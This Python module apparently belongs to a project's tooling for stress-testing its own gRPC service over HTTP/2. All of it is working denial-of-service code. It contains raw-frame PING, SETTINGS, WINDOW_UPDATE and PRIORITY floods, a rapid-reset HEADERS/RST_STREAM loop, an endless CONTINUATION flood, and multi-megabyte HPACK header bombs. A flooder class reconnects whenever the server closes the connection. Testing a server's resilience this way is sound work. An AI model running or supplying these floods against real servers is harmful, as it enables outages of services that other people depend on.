"""Clients that flood a server with HTTP/2 frames (RFC 9113) that cost the clients less work than the server."""

import selectors
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from itertools import count, cycle, repeat

from h2.connection import H2Connection
from h2.events import RemoteSettingsChanged
from h2.exceptions import ProtocolError
from hpack import NeverIndexedHeaderTuple

_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_END_HEADERS = 4
_CANCEL = struct.pack(">I", 8)
_CALL = [
    (":method", "POST"),
    (":scheme", "http"),
    # This is not a stream of batches, because the fast door would move its connection to a separate loop.
    (":path", "/chatiere.v1.GameService/Apply"),
    (":authority", "localhost"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]
# A header that almost fills HPACK's dynamic table of 4,096 bytes, in which an entry's size includes the name and 32
# bytes of overhead. One byte refers to the newest entry (RFC 7541, 2.3.3, 4.1 and 6.1).
LARGE = ("x-large", "a" * 3900)
_REFERENCE = b"\xbe"
_OF_FRAME = 2**14
# The minimum number of bytes of frames that are generated at a time.
_AT_A_TIME = 2**13
_CHUNK = 2**16
# The time between two checks for a server's settings, in seconds.
_PAUSE = 0.001
# The timeout for connecting, in seconds.
_PATIENCE = 10.0


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def _resets(headers: bytes) -> Iterator[bytes]:
    for stream in count(3, 2):
        yield _frame(_HEADERS, _END_HEADERS, stream, headers) + _frame(_RST_STREAM, 0, stream, _CANCEL)


def _endless_headers(headers: bytes) -> Iterator[bytes]:
    yield _frame(_HEADERS, 0, 3, headers)
    yield from repeat(_frame(_CONTINUATION, 0, 3))


def bombs(size: int, of_frame: int) -> Callable[[bytes], Iterator[bytes]]:
    """Return a function that yields lists of `size` references to a large header, in frames of `of_frame` bytes."""

    def frames(headers: bytes) -> Iterator[bytes]:
        block = headers + size * _REFERENCE
        parts = [block[i : i + of_frame] for i in range(0, len(block), of_frame)]
        for stream in count(3, 2):
            for i, part in enumerate(parts):
                flags = _END_HEADERS if i == len(parts) - 1 else 0
                yield _frame(_CONTINUATION if i else _HEADERS, flags, stream, part)

    return frames


# Map each kind of flood to a function that yields frames without end. The function's argument is the encoded headers of
# a call. A call on stream 1 is open during a flood.
FloodsByName = dict[str, Callable[[bytes], Iterator[bytes]]]
FLOODS: FloodsByName = {
    "PING": lambda headers: repeat(_frame(_PING, 0, 0, bytes(8))),
    "SETTINGS": lambda headers: repeat(_frame(_SETTINGS, 0, 0)),
    "DATA": lambda headers: repeat(_frame(_DATA, 0, 1)),
    "PRIORITY": lambda headers: repeat(_frame(_PRIORITY, 0, 1, bytes(5))),
    "WINDOW_UPDATE": lambda headers: repeat(_frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "RST_STREAM": _resets,
    "CONTINUATION": _endless_headers,
}
LARGE_BOMBS: FloodsByName = {"HEADERS of 4 MB": bombs(4_000_000, 4_100_000)}
BOMBS: FloodsByName = {"HEADERS of 3 MB": bombs(3_000_000, 3_100_000)}
# libnghttp2 accepts eight CONTINUATION frames.
BLOCKS: FloodsByName = {"header list of 110 kB in CONTINUATION": bombs(110_000, _OF_FRAME)}


class Flooder:
    """An attacker with one connection at a time.

    On each connection, it sends one kind of flood until the server ends the connection, and then connects again.
    """

    def __init__(
        self,
        address: tuple[str, int],
        source: str,
        came: Counter[str],
        kinds: FloodsByName,
        *,
        acknowledges: bool = True,
    ) -> None:
        """Connect.

        Args:
            address: The address of the server.
            source: The attacker's address.
            came: The counter of events.
            kinds: The floods to send in turn.
            acknowledges: Whether to acknowledge the server's settings.
        """
        self._address, self._source, self._came, self._acknowledges = address, source, came, acknowledges
        self._floods = kinds
        self._kinds = cycle(kinds)
        self.connect()

    def connect(self) -> None:
        """Connect and start a call."""
        self._kind = next(self._kinds)
        self.socket = socket.create_connection(self._address, _PATIENCE, source_address=(self._source, 0))
        http2 = H2Connection()
        http2.initiate_connection()
        http2.send_headers(1, [*_CALL, LARGE])
        sent = http2.data_to_send()
        # These headers do not change the table of header compression, so that any later stream can use them.
        http2.send_headers(3, [NeverIndexedHeaderTuple(*header) for header in _CALL])
        self._frames = self._floods[self._kind](http2.data_to_send()[9:])
        self.socket.setblocking(False)
        self._left = memoryview(sent)
        # None once the server's settings have arrived.
        self._http2: H2Connection | None = http2
        self._came["begun"] += 1

    def send(self) -> None:
        """Send as much as the socket accepts. Raise OSError if the server has closed the connection."""
        if not self._left and self._http2 is not None:
            time.sleep(_PAUSE)
            return
        if not self._left:
            sent = bytearray()
            while len(sent) < _AT_A_TIME:
                sent += next(self._frames)
            self._left = memoryview(sent)
        self._left = self._left[self.socket.send(self._left) :]

    def read(self) -> None:
        """Read incoming data, and acknowledge the server's settings, so that they take effect. Ignore all other data.

        Raises:
            OSError: The server has closed the connection.
        """
        data = self.socket.recv(_CHUNK)
        if not data:
            raise ConnectionResetError
        if self._http2 is not None:
            events = self._http2.receive_data(data)
            if any(isinstance(event, RemoteSettingsChanged) for event in events):
                if self._acknowledges:
                    self._left = memoryview(bytes(self._left) + self._http2.data_to_send())
                self._http2 = None

    def begin_again(self) -> None:
        """Connect again after the end of the connection."""
        self._came[f"{self._kind}: connection ended"] += 1
        self.socket.close()
        self.connect()


def flood(flooders: list[Flooder], until: float) -> None:
    """Flood until the time `until` of time.monotonic()."""
    with selectors.DefaultSelector() as selector:
        both = selectors.EVENT_READ | selectors.EVENT_WRITE
        for flooder in flooders:
            selector.register(flooder.socket, both, flooder)
        while (left := until - time.monotonic()) > 0:
            for key, events in selector.select(left):
                flooder = key.data
                try:
                    if events & selectors.EVENT_READ:
                        flooder.read()
                    if events & selectors.EVENT_WRITE:
                        flooder.send()
                except BlockingIOError:
                    continue
                except (OSError, ProtocolError):
                    selector.unregister(flooder.socket)
                    flooder.begin_again()
                    selector.register(flooder.socket, both, flooder)
    for flooder in flooders:
        flooder.socket.close()
